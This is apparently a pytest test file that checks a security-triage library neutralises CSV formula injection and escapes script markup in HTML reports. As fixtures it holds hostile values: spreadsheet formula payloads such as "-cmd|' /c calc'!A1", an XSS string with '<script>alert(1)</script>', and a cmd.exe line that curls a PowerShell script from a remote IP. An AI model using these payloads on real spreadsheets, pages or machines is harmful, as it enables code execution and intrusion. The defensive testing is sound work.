"""Outputs that attacker-controlled text cannot turn against the reader (issue 22)."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest

from asisdk.data import sample_events_frame
from asisdk.executors import InlineExecutor
from asisdk.pipeline import load_frame, render_report, run_triage, write_csv, write_report
from asisdk.pipeline._timeline import json_for_html

_HOSTILE = ['=HYPERLINK("http://x")', "+1+2", "-cmd|' /c calc'!A1", "@SUM(A1)", "\tx"]


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as stream:
        return list(csv.DictReader(stream))


def test_write_csv_neutralises_formula_text_but_keeps_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {"text": [*_HOSTILE, "plain", None], "n": [-5, 1, 2, 3, 4, 5, 6], "f": -1.5}
    )
    rows = _rows(write_csv(frame, tmp_path / "a.csv"))
    assert [r["text"] for r in rows] == [*("'" + v for v in _HOSTILE), "plain", ""]
    assert rows[0]["n"] == "-5"
    assert rows[0]["f"] == "-1.5"
    assert pd.read_csv(tmp_path / "a.csv")["n"].dtype.kind == "i"
    assert frame["text"].iloc[0] == _HOSTILE[0]  # the caller's frame is unchanged


def test_write_csv_neutralises_a_leading_carriage_return(tmp_path: Path) -> None:
    raw = write_csv(pd.DataFrame({"t": ["\r=1"]}), tmp_path / "cr.csv").read_bytes()
    assert raw.startswith(b"t\n'\r=1")


def test_write_csv_neutralises_string_dtype_columns(tmp_path: Path) -> None:
    frame = pd.DataFrame({"s": pd.array(["=1", "a", None], dtype="string")})
    assert [r["s"] for r in _rows(write_csv(frame, tmp_path / "s.csv"))] == ["'=1", "a", ""]


def test_write_csv_can_be_told_not_to(tmp_path: Path) -> None:
    frame = pd.DataFrame({"text": ["=1+2", "@x"]})
    rows = _rows(write_csv(frame, tmp_path / "raw.csv", neutralise=False))
    assert [r["text"] for r in rows] == ["=1+2", "@x"]


def _hostile_result():  # type: ignore[no-untyped-def]
    frame = sample_events_frame().head(40).copy()
    frame.loc[3, "CommandLine"] = "=cmd.exe /c curl http://81.2.69.142/a.ps1"
    frame.loc[4, "CommandLine"] = 'cmd /c echo "<!--<script>alert(1)</script>" > x.html'
    return run_triage(load_frame(frame), executor=InlineExecutor())


def test_every_triage_csv_is_neutralised(tmp_path: Path) -> None:
    _, files = write_report(_hostile_result(), tmp_path / "out", timeline="svg")
    written = [name for name in files if name.endswith(".csv")]
    assert written == ["findings.csv", "iocs.csv", "ioc_hits.csv", "decoded.csv", "clusters.csv"]
    for name in written:
        for row in _rows(files[name]):
            for value in row.values():
                assert not value.startswith(("=", "+", "@", "\t", "\r")), (name, value)
                assert not re.match(r"-\D", value), (name, value)
    clusters = (tmp_path / "out" / "clusters.csv").read_text(encoding="utf-8")
    assert ",'=cmd.exe" in clusters
    _, raw = write_report(_hostile_result(), tmp_path / "raw", timeline="svg", neutralise_csv=False)
    assert ",=cmd.exe" in raw["clusters.csv"].read_text(encoding="utf-8")


def test_json_for_html_escapes_markup() -> None:
    text = json_for_html({"label": "<!--<script>a & b</script>"})
    assert not set("<>&") & set(text)
    assert "\\u003c!--\\u003cscript\\u003e" in text


def test_report_timeline_json_cannot_break_out() -> None:
    page = render_report(_hostile_result(), timeline="svg")
    data = re.search(
        r'<script type="application/json" id="timeline-data">(.*?)</script>', page, re.S
    )
    assert data is not None
    assert "alert(1)" in data.group(1)  # the event is in the timeline ...
    assert "<" not in data.group(1)  # ... without a single raw "<"
    assert "<!--<script>" not in page


@pytest.mark.parametrize("engine", ["bokeh"])
def test_bokeh_timeline_has_no_raw_comment_script(engine: str) -> None:
    pytest.importorskip("bokeh", reason="bokeh comes with the notebook extra")
    page = render_report(_hostile_result(), timeline=engine)  # type: ignore[arg-type]
    assert "<!--<script>" not in page
